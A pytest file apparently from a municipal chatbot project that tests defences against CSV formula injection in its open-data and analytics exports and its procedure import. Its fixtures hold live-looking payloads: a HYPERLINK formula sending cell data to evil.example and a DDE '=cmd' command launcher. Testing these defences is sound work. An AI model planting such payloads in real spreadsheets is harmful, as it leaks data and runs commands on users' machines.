"""CSV injection (OWASP): our CSV exports write a cell that a spreadsheet would run as a formula
with a leading apostrophe, and the procedure import refuses such cells, naming the field.
(The public exports are checked over HTTP in tests/admin/test_faq_admin.py.)"""
from __future__ import annotations

import copy
import csv
import io
import json
import shutil
from pathlib import Path

import pytest

from bot.admin import analytics, opendata
from bot.admin.spreadsheet import safe_cell
from bot.settings import PROJECT_ROOT

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"click")'


@pytest.mark.parametrize("value, written", [
    (HYPERLINK, "'" + HYPERLINK), ("+81 3 1234", "'+81 3 1234"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("住民票 = 300円", "住民票 = 300円"), (300, 300), (-5, -5), ("", ""),
])
def test_cells_that_start_like_a_formula_get_an_apostrophe(value, written):
    assert safe_cell(value) == written


def test_the_procedures_csv_neutralises_every_cell():
    document = {"license": {"id": "CC-BY-4.0"}, "publisher": {"attribution": "=cmd|' /C calc'!A0"},
                "procedures": [{"id": "x", "title": {"ja": HYPERLINK, "en": "@evil", "easy": "-2"},
                                "documents": {"ja": ["=1+1"]}, "fee": {"yen": 0, "ja": "+無料"}}]}
    rows = list(csv.DictReader(io.StringIO(opendata.to_csv(document)[1:])))
    ja = next(r for r in rows if r["language"] == "ja")
    assert ja["title"] == "'" + HYPERLINK and ja["documents"] == "'=1+1" and ja["fee"] == "'+無料"
    assert ja["attribution"].startswith("'=cmd") and ja["fee_yen"] == "0"
    assert next(r for r in rows if r["language"] == "en")["title"] == "'@evil"


def test_the_analytics_csv_neutralises_every_cell():
    numbers = {"per_day": [{"day": "2026-11-01", "=web": 3}], "channels": ["=web"],
               **{key: 1 for key in ("conversations", "handoffs", "handoff_rate", "containment", "messages",
                                     "fallbacks", "fallback_rate", "callbacks")},
               "waiting": {"buckets": {"-5": 1}, "median": None},
               "top_procedures": [{"procedure": "@proc", "conversations": 2}],
               "satisfaction": {"count": 0, "mean": None, "distribution": {}}}
    rows = list(csv.reader(io.StringIO(analytics.to_csv(numbers))))
    assert ["conversations", "2026-11-01/=web", "3"] in rows  # not at the start: harmless
    assert ["waiting_bucket", "'-5", "1"] in rows and ["procedure_conversations", "'@proc", "2"] in rows


def test_the_procedure_import_refuses_formula_cells(tmp_path: Path):
    shutil.copytree(PROJECT_ROOT / "intents", tmp_path / "intents")
    publication = opendata.Publication("CC-BY-4.0", "CC BY", "https://creativecommons.org/licenses/by/4.0/", "")
    document = opendata.export_document(tmp_path / "intents", publication)
    evil = copy.deepcopy(document)
    lost = next(p for p in evil["procedures"] if p["id"] == "mynumber_lost")
    lost["title"]["ja"] = HYPERLINK
    lost["documents"]["en"][0] = "@SUM(1)"
    (tmp_path / "evil.json").write_text(json.dumps(evil, ensure_ascii=False), encoding="utf-8")
    with pytest.raises(opendata.ImportRefused) as refused:
        opendata.plan_import(tmp_path / "evil.json", tmp_path / "intents")
    message = str(refused.value)
    assert "procedures/mynumber_lost/title/ja" in message and "procedures/mynumber_lost/documents/en/0" in message
    assert "formulas" in message
